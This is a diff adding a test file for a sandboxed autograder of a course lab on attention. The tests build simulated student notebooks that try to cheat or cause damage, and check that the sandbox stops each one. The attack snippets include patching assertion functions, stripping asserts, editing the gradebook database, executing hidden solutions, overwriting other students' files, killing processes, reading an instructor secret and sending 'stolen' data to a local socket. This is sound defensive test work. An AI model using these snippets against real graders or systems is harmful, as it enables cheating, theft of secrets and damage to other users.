@@ -1,0 +1,385 @@
+"""Attacks and accidents (issue 14), graded for real by `python -m grading` in the bubblewrap sandbox.
+
+One class of lab04_attention submissions: each attack must score no more than its honest code earns, harm no other
+student, read no solution, reach no network; each honest accident keeps its full score. In CI (`CI` set) these
+tests fail when bubblewrap is missing; elsewhere they are skipped with the reason.
+"""
+
+from __future__ import annotations
+
+import copy
+import csv
+import json
+import os
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+from pathlib import Path
+
+import nbformat
+import psutil
+import pytest
+
+from grading import LABS, load_lab, student_versions
+from grading.harness import hidden_lines
+from grading.sandbox import SCRATCH_ROOT, TreeLimits, sandbox_problem
+from utils import ROOT
+
+LAB = "lab04_attention"
+PROBLEM = sandbox_problem()
+if PROBLEM and os.environ.get("CI"):
+    raise RuntimeError(f"the grading sandbox must run in CI: {PROBLEM}")  # a collection error, not a skip
+pytestmark = pytest.mark.skipif(PROBLEM is not None, reason=f"no grading sandbox here: {PROBLEM}")
+
+SECRET_ENV = "COURSE_INSTRUCTOR_SECRET"
+SECRET_VALUE = "s3cr3t-of-the-instructor-7f1c"
+PWNED = [ROOT / "pwned_by_student.txt", ROOT / ".venv" / "lib" / "pwned_by_student.py"]
+DAEMON_ARG = "4243.5"
+SOURCE = load_lab(LAB)
+MAX = SOURCE.max_score
+
+
+def points_before(grade_id: str) -> float:
+    """Points of the test cells above solution cell `grade_id` (what a student keeps when that cell stops them)."""
+    cells = [c.metadata.get("nbgrader", {}) for c in SOURCE.notebooks[LAB].cells]
+    stop = [m.get("grade_id") for m in cells].index(grade_id)
+    return sum(float(m.get("points", 0)) for m in cells[:stop] if m.get("grade"))
+
+UNSCALED = '''def scaled_dot_product_attention(q, k, v, mask=None):
+    scores = q @ k.transpose(-2, -1)
+    if mask is not None:
+        scores = scores.masked_fill(~mask, float("-inf"))
+    return torch.softmax(scores, dim=-1) @ v'''
+
+
+def _versions():
+    v = student_versions(load_lab(LAB), LABS / LAB)
+    return v["solution"][LAB], v["stub"][LAB]
+
+
+def _cell(nb, grade_id):
+    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
+
+
+def _with(nb, grade_id, source=None, prepend=""):
+    nb = copy.deepcopy(nb)
+    cell = _cell(nb, grade_id)
+    cell.source = prepend + (cell.source if source is None else source)
+    return nb
+
+
+def build_class(root: Path, out: Path, port: int) -> dict[str, nbformat.NotebookNode]:
+    sol, stub = _versions()
+    c = {"stub": stub, "solution": sol, "honest_unscaled": _with(sol, "sdpa", UNSCALED)}
+
+    # --- attacks -------------------------------------------------------------------------------------------------
+    c["atk_allclose"] = _with(sol, "sdpa", UNSCALED + "\n\ntorch.allclose = torch.equal = lambda *a, **k: True\n")
+    c["atk_input_transformer"] = _with(stub, "sdpa", prepend=(
+        "def _neuter(lines):\n    return ['pass\\n'] if any('assert' in line for line in lines) else lines\n"
+        "get_ipython().input_transformers_cleanup.append(_neuter)\n\n"))
+    c["atk_ast_transformer"] = _with(stub, "sdpa", prepend=(
+        "import ast\nclass _NoAssert(ast.NodeTransformer):\n    def visit_Assert(self, node):\n        return ast.Pass()\n"
+        "get_ipython().ast_transformers.append(_NoAssert())\n\n"))
+    nb = copy.deepcopy(stub)
+    for cell in nb.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade"):
+            cell.metadata["tags"] = ["skip-execution", "raises-exception"]
+            cell.metadata["nbgrader"]["points"] = 100
+    c["atk_skip_tags"] = nb
+    c["atk_sqlite"] = _with(stub, "sdpa", prepend=(
+        "import glob, os, sqlite3\n_found = []\n"
+        f"for _d in [os.getcwd(), '..', '../..', '/tmp', {str(ROOT / 'grading')!r}, {str(out)!r}, "
+        f"{str(SCRATCH_ROOT)!r}]:\n"
+        "    _found += glob.glob(os.path.join(_d, '**', 'gradebook.db'), recursive=True)\n"
+        "for _p in _found:\n"
+        "    _db = sqlite3.connect(_p)\n"
+        "    _db.execute('UPDATE grade SET manual_score = 100, extra_credit = 100')\n"
+        "    _db.commit()\n"
+        "print('gradebooks found:', len(_found))\n\n"))
+    c["atk_exec_source"] = _with(stub, "mha", prepend=(
+        "import glob, json, os\n_found = []\n"
+        f"for _d in [os.getcwd(), '..', '../..', '/tmp', {str(ROOT / 'solutions')!r}, {str(ROOT / 'labs')!r}, "
+        f"{str(SCRATCH_ROOT)!r}]:\n"
+        f"    _found += glob.glob(os.path.join(_d, '**', '{LAB}.ipynb'), recursive=True)\n"
+        "for _p in _found:\n"
+        "    for _c in json.load(open(_p))['cells']:\n"
+        "        if _c['cell_type'] == 'code' and 'BEGIN SOLUTION' in ''.join(_c['source']):\n"
+        "            exec(''.join(_c['source']))\n"
+        "print('lab sources found:', len(_found))\n\n"))
+    targets = [out / "grades.csv", out / "feedback" / "solution" / LAB / f"{LAB}.html", *PWNED,
+               ROOT / "solutions" / LAB / "wrong_answers.py"]
+    c["atk_harm_others"] = _with(stub, "sdpa", prepend=(
+        "_hits = []\n"
+        f"for _t in {[str(t) for t in targets]!r}:\n"
+        "    try:\n"
+        "        with open(_t, 'a') as _f:\n"
+        "            _f.write('solution,lab04_attention,0,13,HACKED\\n')\n"
+        "        _hits.append(_t)\n"
+        "    except OSError as _e:\n"
+        "        pass\n"
+        "print('written:', _hits)\n\n"))
+    c["atk_kill"] = _with(stub, "sdpa", prepend=(
+        "import os, signal\n"
+        "for _pid in [os.getppid(), 1] + list(range(2, 400)):\n"
+        "    if _pid != os.getpid():\n"
+        "        try:\n"
+        "            os.kill(_pid, signal.SIGKILL)\n"
+        "        except OSError:\n"
+        "            pass\n\n"))
+    c["atk_caller_source"] = _with(sol, "sdpa", prepend=(
+        "import sys\n"
+        "def _spy():\n"
+        "    f = sys._getframe(2)\n"
+        "    while f is not None:\n"
+        "        for _k, _v in list(f.f_locals.items()):\n"
+        "            if isinstance(_v, str):\n"
+        "                print(_k, _v)\n"
+        "        f = f.f_back\n\n"), source=_cell(sol, "sdpa").source.replace(
+            "    scores = q @", "    _spy()\n    scores = q @"))
+    c["atk_env_solutions_network"] = _with(stub, "sdpa", prepend=(
+        "import os, socket\n"
+        f"print('env:', {SECRET_ENV!r} in os.environ, os.environ.get({SECRET_ENV!r}))\n"
+        f"for _p in [{str(ROOT / 'solutions' / LAB / (LAB + '.ipynb'))!r}, "
+        f"{str(ROOT / 'solutions' / LAB / 'wrong_answers.py')!r}]:\n"
+        "    try:\n"
+        "        print(open(_p).read()[:3000])\n"
+        "    except OSError as _e:\n"
+        "        print('cannot read', type(_e).__name__)\n"
+        "try:\n"
+        f"    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'stolen')\n"
+        "    print('network: connected')\n"
+        "except OSError as _e:\n"
+        "    print('network:', type(_e).__name__)\n\n"))
+    c["atk_memory"] = _with(stub, "sdpa", prepend=(
+        "import subprocess, sys\n"
+        "_kids = [subprocess.Popen([sys.executable, '-c', "
+        "'import time; x = bytearray(b\"1\") * (600 * 2**20); time.sleep(1)']) for _ in range(3)]\n"
+        "print('children exited:', [k.wait() for k in _kids])\n\n"))
+    c["atk_daemon"] = _with(stub, "sdpa", prepend=(
+        f"import subprocess\nsubprocess.Popen(['setsid', 'sleep', {DAEMON_ARG!r}], start_new_session=True)\n\n"))
+    c["atk_hang"] = _with(sol, "causal", prepend=(
+        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n\n"))
+
+    # --- honest accidents: each keeps its full score -----------------------------------------------------------------
+    c["honest_stderr_warning"] = _with(sol, "sdpa", prepend=(
+        "import sys, warnings\nprint('debug: defining attention', file=sys.stderr)\n"), source=_cell(sol, "sdpa")
+        .source.replace("    scores = q @", "    warnings.warn('a library warning', UserWarning)\n"
+                        "    print('shape', q.shape, file=sys.stderr)\n    scores = q @"))
+    c["honest_ref_helper"] = _with(sol, "causal", (
+        "def _ref(seq_q, seq_k):\n    return torch.ones(seq_q, seq_k, dtype=torch.bool).tril()\n\n\n"
+        "def causal_mask(seq_q, seq_k):\n    return _ref(seq_q, seq_k)\n\n\n"
+        "def causal_attention(q, k, v):\n"
+        "    return scaled_dot_product_attention(q, k, v, mask=causal_mask(q.shape[-2], k.shape[-2]))\n"))
+    nb = copy.deepcopy(sol)
+    foreign = nbformat.v4.new_code_cell("def helper_from_lab03(n):\n    return n + 1")
+    foreign.metadata["nbgrader"] = {"grade": False, "grade_id": "sinusoidal_encoding", "locked": False,
+                                    "schema_version": 3, "solution": True, "task": False}
+    nb.cells.insert(nb.cells.index(_cell(nb, "causal")), foreign)
+    c["honest_pasted_cell"] = nb
+    nb = copy.deepcopy(sol)
+    for cell in nb.cells:
+        cell.metadata.pop("nbgrader", None)
+    c["honest_stripped_metadata"] = nb
+    nb = copy.deepcopy(sol)
+    nb.cells.remove(_cell(nb, "test_mask_shape"))
+    c["honest_deleted_test"] = nb
+    c["honest_inspect"] = _with(sol, "mha", prepend=(
+        "import inspect\nprint(inspect.getsource(scaled_dot_product_attention).splitlines()[0])\n\n"))
+    c["honest_keyboard_interrupt"] = _with(sol, "mha", prepend="raise KeyboardInterrupt\n\n")
+    c["jane doe"] = sol
+    c["émilie"] = sol
+    for student, nb in c.items():
+        folder = root / student / LAB
+        folder.mkdir(parents=True)
+        nbformat.write(nb, folder / f"{LAB}.ipynb")
+    return c
+
+
+class Listener:
+    """A TCP server on 127.0.0.1 that records whether anyone connected."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen()
+        self.sock.settimeout(0.5)
+        self.port = self.sock.getsockname()[1]
+        self.connections = 0
+        self.stop = False
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        while not self.stop:
+            try:
+                conn, _ = self.sock.accept()
+                self.connections += 1
+                conn.close()
+            except OSError:
+                pass
+
+
+def _rows(out: Path) -> dict[str, dict[str, str]]:
+    with open(out / "grades.csv", newline="", encoding="utf-8") as f:
+        return {r["student"]: r for r in csv.DictReader(f)}
+
+
+def _outputs(out: Path, student: str) -> str:
+    nb = json.loads((out / "autograded" / student / LAB / f"{LAB}.ipynb").read_text(encoding="utf-8"))
+    return json.dumps([c.get("outputs", []) for c in nb["cells"]])
+
+
+@pytest.fixture(scope="module")
+def graded(tmp_path_factory):
+    root = tmp_path_factory.mktemp("attacks")
+    submissions, out = root / "submitted", root / "grading"
+    listener = Listener()
+    for path in PWNED:
+        path.unlink(missing_ok=True)
+    wrong_answers_before = (ROOT / "solutions" / LAB / "wrong_answers.py").read_bytes()
+    students = build_class(submissions, out, listener.port)
+    cmd = [sys.executable, "-m", "grading", "--lab", LAB, "--submissions", str(submissions), "--out", str(out),
+           "--cell-timeout", "60", "--memory-gb", "1.5", "--workers", "2"]
+    env = dict(os.environ, **{SECRET_ENV: SECRET_VALUE, "HF_HUB_OFFLINE": "1"})
+    proc = subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=3000, env=env)
+    listener.stop = True
+    print(proc.stdout[-6000:])
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    wrong_answers_after = (ROOT / "solutions" / LAB / "wrong_answers.py").read_bytes()
+    return dict(out=out, rows=_rows(out), listener=listener, students=sorted(students),
+                wrong_answers_kept=wrong_answers_before == wrong_answers_after)
+
+
+def test_every_student_has_a_row(graded):
+    rows = graded["rows"]
+    assert sorted(rows) == graded["students"] and "jane doe" in rows and "émilie" in rows
+
+
+@pytest.mark.parametrize("student", ["solution", "honest_stderr_warning", "honest_ref_helper", "honest_pasted_cell",
+                                     "honest_stripped_metadata", "honest_deleted_test", "honest_inspect",
+                                     "jane doe", "émilie", "atk_caller_source"])
+def test_honest_code_keeps_full_marks(graded, student):
+    row = graded["rows"][student]
+    assert (float(row["score"]), row["status"]) == (MAX, "ok"), row
+
+
+def test_stub_scores_zero_and_honest_wrong_answer_scores_between(graded):
+    rows = graded["rows"]
+    assert float(rows["stub"]["score"]) == 0 and rows["stub"]["status"] == "ok"
+    assert 0 < float(rows["honest_unscaled"]["score"]) < MAX
+
+
+@pytest.mark.parametrize("student, honest, status", [
+    ("atk_allclose", "honest_unscaled", "tampering"),
+    ("atk_input_transformer", "stub", "tampering"),
+    ("atk_ast_transformer", "stub", "tampering"),
+    ("atk_skip_tags", "stub", None),
+    ("atk_sqlite", "stub", "tampering"),
+    ("atk_exec_source", "stub", "tampering"),
+    ("atk_harm_others", "stub", None),
+    ("atk_kill", "stub", "tampering"),
+    ("atk_env_solutions_network", "stub", "tampering"),
+    ("atk_memory", "stub", None),
+    ("atk_daemon", "stub", None),
+])
+def test_attacks_score_no_more_than_their_honest_code(graded, student, honest, status):
+    rows = graded["rows"]
+    row = rows[student]
+    assert float(row["score"]) <= float(rows[honest]["score"]), row
+    assert float(row["max_score"]) == MAX, row
+    if status:
+        assert row["status"] == status, row
+
+
+def test_tampering_is_caught_at_run_time(graded):
+    notes = graded["rows"]["atk_allclose"]["notes"]
+    assert "torch.allclose" in notes and "0 points" in notes
+    assert "without running to its end" in graded["rows"]["atk_input_transformer"]["notes"]
+
+
+def test_no_gradebook_no_lab_source_no_solution_no_secret_in_the_sandbox(graded):
+    out = graded["out"]
+    assert "gradebooks found: 0" in _outputs(out, "atk_sqlite")
+    assert "lab sources found: 0" in _outputs(out, "atk_exec_source")
+    seen = _outputs(out, "atk_env_solutions_network")
+    assert "env: False None" in seen and SECRET_VALUE not in seen
+    assert seen.count("cannot read") == 2 and "BEGIN SOLUTION" not in seen
+    assert "network: ConnectionRefusedError" in seen or "network: OSError" in seen
+    assert graded["listener"].connections == 0
+
+
+def test_no_other_student_or_file_harmed(graded):
+    rows, out = graded["rows"], graded["out"]
+    assert "written: []" in _outputs(out, "atk_harm_others")
+    assert float(rows["solution"]["score"]) == MAX
+    assert "HACKED" not in (out / "grades.csv").read_text(encoding="utf-8")
+    assert "HACKED" not in (out / "feedback" / "solution" / LAB / f"{LAB}.html").read_text("utf-8")
+    assert not any(p.exists() for p in PWNED)
+    assert graded["wrong_answers_kept"]
+
+
+def test_feedback_never_shows_hidden_tests(graded):
+    secret = hidden_lines([c.source for c in SOURCE.notebooks[LAB].cells])
+    assert len(secret) > 10
+    html = (graded["out"] / "feedback" / "atk_caller_source" / LAB / f"{LAB}.html").read_text(encoding="utf-8")
+    import html as html_lib
+
+    text = html_lib.unescape(html)
+    assert "hidden test line removed" in text  # the spy did print them; the grader took them out
+    assert not [s for s in secret if s in text]
+    assert "@@grader-" not in text
+
+
+def test_time_memory_interrupts_and_processes(graded):
+    rows = graded["rows"]
+    hang = rows["atk_hang"]
+    assert hang["status"] == "timeout" and "ignored the interrupt" in hang["notes"], hang
+    assert float(hang["score"]) == points_before("causal"), hang  # exercise 1's tests ran; nothing after the hang
+    ki = rows["honest_keyboard_interrupt"]
+    assert ki["status"] == "ok" and "raised KeyboardInterrupt" in ki["notes"] and float(ki["score"]) == points_before("mha"), ki
+    mem = rows["atk_memory"]
+    probe = TreeLimits(f"course-grading-{os.getpid()}-probe", 1.0)
+    probe.remove()
+    if probe.available:  # (without a cgroup, memory is limited per process only)
+        assert mem["status"] == "memory" or "-9" in _outputs(graded["out"], "atk_memory"), mem
+    daemons = [p for p in psutil.process_iter(["cmdline"]) if DAEMON_ARG in (p.info["cmdline"] or [])]
+    assert daemons == [], "a student's daemon outlived the batch"
+
+
+def test_a_killed_batch_keeps_its_rows_leaves_no_process_and_resumes(tmp_path):
+    sol, _ = _versions()
+    submissions, out = tmp_path / "submitted", tmp_path / "grading"
+    for student, nb in (("a_quick", sol), ("b_slow", _with(sol, "mha", prepend="import time\ntime.sleep(600)\n\n"))):
+        (submissions / student / LAB).mkdir(parents=True)
+        nbformat.write(nb, submissions / student / LAB / f"{LAB}.ipynb")
+    cmd = [sys.executable, "-m", "grading", "--lab", LAB, "--submissions", str(submissions), "--out", str(out),
+           "--workers", "1", "--no-feedback"]
+    proc = subprocess.Popen(cmd + ["--cell-timeout", "900"], cwd=ROOT, stdout=subprocess.DEVNULL,
+                            stderr=subprocess.DEVNULL, env=dict(os.environ, HF_HUB_OFFLINE="1"))
+    deadline = time.monotonic() + 600
+    while time.monotonic() < deadline and not ((out / "grades.csv").exists() and "a_quick" in _rows(out)):
+        time.sleep(1)
+    assert "a_quick" in _rows(out)
+
+    def kernels():
+        return [p for p in psutil.process_iter(["cmdline"])
+                if any(f"batch-{proc.pid}" in part for part in (p.info["cmdline"] or []))]
+    while time.monotonic() < deadline and not kernels():
+        time.sleep(0.5)
+    time.sleep(2)
+    os.kill(proc.pid, signal.SIGKILL)
+    proc.wait()
+    time.sleep(3)
+    assert kernels() == [], "the student's kernel outlived the grading process"
+    assert set(_rows(out)) == {"a_quick"}
+    assert (SCRATCH_ROOT / f"batch-{proc.pid}").exists()  # left behind by the kill...
+    again = subprocess.run(cmd + ["--cell-timeout", "20", "--resume"], cwd=ROOT, capture_output=True, text=True,
+                           timeout=900, env=dict(os.environ, HF_HUB_OFFLINE="1"))
+    assert again.returncode == 0, again.stderr[-3000:]
+    assert not (SCRATCH_ROOT / f"batch-{proc.pid}").exists()  # ...and removed at the next start
+    rows = _rows(out)
+    assert set(rows) == {"a_quick", "b_slow"} and rows["b_slow"]["status"] == "timeout"
+    assert float(rows["a_quick"]["score"]) == MAX
